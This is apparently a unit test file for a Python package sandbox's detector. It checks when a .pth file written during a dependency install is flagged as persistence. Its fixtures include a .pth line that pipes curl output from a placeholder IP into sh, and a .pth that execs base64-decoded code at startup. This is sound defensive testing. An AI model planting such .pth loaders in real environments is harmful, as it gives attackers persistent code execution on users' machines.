"""A dependency wheel a round installs mid-run may ship a ``.pth`` (namespace packages,
coverage's subprocess hook). pip writes it during the import phase, where PS005 treats
any new ``.pth`` as persistence; the corpus called two top-300 projects malicious for
it. The wheel's own ``.pth`` is the dependency's when the bytes left behind are exactly
what the staged wheel's RECORD says; any other bytes under that name stay a finding."""

from __future__ import annotations

import base64
import hashlib
import secrets
from pathlib import Path

from sandbox.agent.protocol import HOME, VENV
from sandbox.fetch.archive import inspect_wheel, record_root_hooks
from sandbox.judge.rules import evaluate
from sandbox.models import (
    Event,
    EventKind,
    FsChange,
    Observation,
    Phase,
    PhaseResult,
    PhaseStatus,
    StagedHook,
)
from tests.unit.test_fetch_fixtures import make_wheel

SITE = f"{VENV}/lib/python3.11/site-packages"


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")


def test_record_root_hooks_reads_only_root_pth_with_a_hash() -> None:
    body = b"import sys; sys.path\n"
    record = (
        f"dep-1.0-nspkg.pth,sha256={_b64(body)},{len(body)}\n"
        f"dep/vendored/inner.pth,sha256={_b64(b'x')},1\n"
        "nohash.pth,,\n"
        f"dep/__init__.py,sha256={_b64(b'')},0\n"
        "dep-1.0.dist-info/RECORD,,\n"
    ).encode()
    assert record_root_hooks(record) == (("dep-1.0-nspkg.pth", hashlib.sha256(body).hexdigest()),)


def test_inspect_wheel_reports_root_hooks(tmp_path: Path) -> None:
    name = f"dep{secrets.token_hex(3)}"
    body = f"import {name}\n".encode()
    pth = f"a1_{name}.pth"
    record = f"{pth},sha256={_b64(body)},{len(body)}\n".encode()
    wheel = make_wheel(tmp_path, name, "1.0", files={pth: body, f"{name}-1.0.dist-info/RECORD": record})
    assert inspect_wheel(wheel).root_hooks == ((pth, hashlib.sha256(body).hexdigest()),)


def _obs(pth: str, left: bytes, hooks: tuple[StagedHook, ...]) -> Observation:
    """The round's pip (candidate-labelled: it ran after the candidate's code) writes
    *pth* in the import phase; the diff finds *left* there afterwards."""
    path = f"{SITE}/{pth}"
    write = Event(
        phase=Phase.IMPORT,
        seq=5,
        pid=77,
        time=5.0,
        syscall="openat",
        kind=EventKind.FILE_WRITE,
        path=path,
        argv=(f"{VENV}/bin/python", "-m", "pip", "install", "--no-index", "--find-links", "/stage/artifacts"),
    )
    change = FsChange(
        phase=Phase.IMPORT,
        path=path,
        change="created",
        size=len(left),
        sha256=hashlib.sha256(left).hexdigest(),
        head=left.decode(),
    )
    phases = tuple(
        PhaseResult(phase=p, status=PhaseStatus.OK, duration=1.0)
        for p in (Phase.INSTALL, Phase.STARTUP, Phase.IMPORT)
    )
    return Observation(
        events=(write,),
        processes=(),
        phases=phases,
        home=HOME,
        venv=VENV,
        fs_changes=(change,),
        round_hooks=hooks,
    )


def _ps005(obs: Observation) -> list[str]:
    return sorted(e.path or "" for f in evaluate(obs) if f.rule_id == "PS005" for e in f.evidence)


def test_a_round_wheels_own_pth_is_not_persistence() -> None:
    pth = f"{secrets.token_hex(3)}-1.0-py3.12-nspkg.pth"
    body = b"import sys, types, os;has_mfs = sys.version_info > (3, 5)\n"
    hooks = (
        StagedHook(name=pth, sha256=hashlib.sha256(body).hexdigest(), text=body.decode(), phase=Phase.IMPORT),
    )
    assert _ps005(_obs(pth, body, hooks)) == []
    # without the round's record the same write is persistence (trace and diff)
    assert _ps005(_obs(pth, body, ())) == [f"{SITE}/{pth}", f"{SITE}/{pth}"]


def test_other_bytes_under_a_round_wheels_pth_name_stay_persistence() -> None:
    pth = f"a1_{secrets.token_hex(3)}.pth"
    shipped = b"import os\n"
    hooks = (
        StagedHook(
            name=pth, sha256=hashlib.sha256(shipped).hexdigest(), text=shipped.decode(), phase=Phase.IMPORT
        ),
    )
    swapped = b"import os; os.system('curl http://192.0.2.7/x | sh')\n"
    assert _ps005(_obs(pth, swapped, hooks)) == [f"{SITE}/{pth}", f"{SITE}/{pth}"]
    # the same bytes elsewhere than the top of site-packages are not the wheel's either
    other = f"{HOME}/.local/lib/python3.11/site-packages/{pth}"
    obs = _obs(pth, shipped, hooks)
    moved = obs.model_copy(
        update={
            "events": tuple(e.model_copy(update={"path": other}) for e in obs.events),
            "fs_changes": tuple(c.model_copy(update={"path": other}) for c in obs.fs_changes),
        }
    )
    assert _ps005(moved) == [other, other]


def _ps(obs: Observation, rule: str) -> list[str]:
    return sorted(e.path or "" for f in evaluate(obs) if f.rule_id == rule for e in f.evidence)


def _hook(pth: str, body: bytes) -> tuple[StagedHook, ...]:
    return (
        StagedHook(name=pth, sha256=hashlib.sha256(body).hexdigest(), text=body.decode(), phase=Phase.IMPORT),
    )


def test_a_round_wheels_pth_is_judged_by_its_content() -> None:
    """A dependency the candidate makes a round fetch (an import of a name it chose) can
    ship a .pth that runs decoded code at every start. Nothing judged its content: the
    install's inventory was taken before the round, and PS005 dropped it. Failed on
    main with no PS005, PS009 or PS021 finding."""
    pth = f"{secrets.token_hex(3)}.pth"
    payload = base64.b64encode(b"print('reserved.invalid')").decode()
    body = f"import base64; exec(base64.b64decode('{payload}'))\n".encode()
    obs = _obs(pth, body, _hook(pth, body))
    assert _ps(obs, "PS005") == [f"{SITE}/{pth}", f"{SITE}/{pth}"]
    assert _ps(obs, "PS021") == [f"{SITE}/{pth}"]
    assert _ps(obs, "PS009") == [f"{SITE}/{pth}"]
    # a namespace line is still the wheel's (PS009 notes that it runs at start, INFO)
    ns = pth[:6]
    plain = f"import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], '{ns}')\n".encode()
    obs = _obs(pth, plain, _hook(pth, plain))
    assert (_ps(obs, "PS005"), _ps(obs, "PS021"), _ps(obs, "PS009")) == ([], [], [f"{SITE}/{pth}"])


def test_a_round_hook_covers_only_its_rounds_phase() -> None:
    """The wheel a round of the import phase staged does not vouch for the same bytes
    written in the startup phase, before it existed. Failed on main with no PS005."""
    pth = f"a1_{secrets.token_hex(3)}.pth"
    body = b"import os\n"
    obs = _obs(pth, body, _hook(pth, body))
    early = obs.model_copy(
        update={
            "events": tuple(e.model_copy(update={"phase": Phase.STARTUP}) for e in obs.events),
            "fs_changes": tuple(c.model_copy(update={"phase": Phase.STARTUP}) for c in obs.fs_changes),
        }
    )
    assert _ps005(early) == [f"{SITE}/{pth}", f"{SITE}/{pth}"]


def test_a_record_row_for_a_pth_the_wheel_does_not_ship_is_no_hook(tmp_path: Path) -> None:
    """RECORD may list a root .pth with any hash; if the wheel lacks the file, the
    candidate writes those bytes itself and the host never saw them. Failed on main:
    the row became a staged hook."""
    name = f"dep{secrets.token_hex(3)}"
    unseen = b"import os; os.system('true')\n"
    shipped = f"import {name}\n".encode()
    record = (
        f"a1_{name}.pth,sha256={_b64(unseen)},{len(unseen)}\n"  # not in the wheel
        f"b1_{name}.pth,sha256={_b64(unseen)},{len(unseen)}\n"  # in the wheel, other bytes
        f"c1_{name}.pth,sha256={_b64(shipped)},{len(shipped)}\n"
    ).encode()
    files = {f"b1_{name}.pth": shipped, f"c1_{name}.pth": shipped, f"{name}-1.0.dist-info/RECORD": record}
    info = inspect_wheel(make_wheel(tmp_path, name, "1.0", files=files))
    assert info.root_hooks == ((f"c1_{name}.pth", hashlib.sha256(shipped).hexdigest()),)
    assert info.root_hook_texts == (shipped.decode(),)


def test_a_round_of_an_extra_pass_does_not_vouch_for_an_earlier_pass() -> None:
    """Passes re-run the import phase in the same container: a round in the Windows
    pass stages the wheel after the default pass already ran, so the same bytes the
    candidate wrote in the default pass's import phase are its own. Failed on main
    with no PS005 (hooks matched by name and hash only)."""
    pth = f"{secrets.token_hex(3)}-nspkg.pth"
    body = b"import sys, types, os\n"
    later = tuple(h.model_copy(update={"pass_name": "windows"}) for h in _hook(pth, body))
    assert _ps005(_obs(pth, body, later)) == [f"{SITE}/{pth}", f"{SITE}/{pth}"]
    assert _ps005(_obs(pth, body, _hook(pth, body))) == []
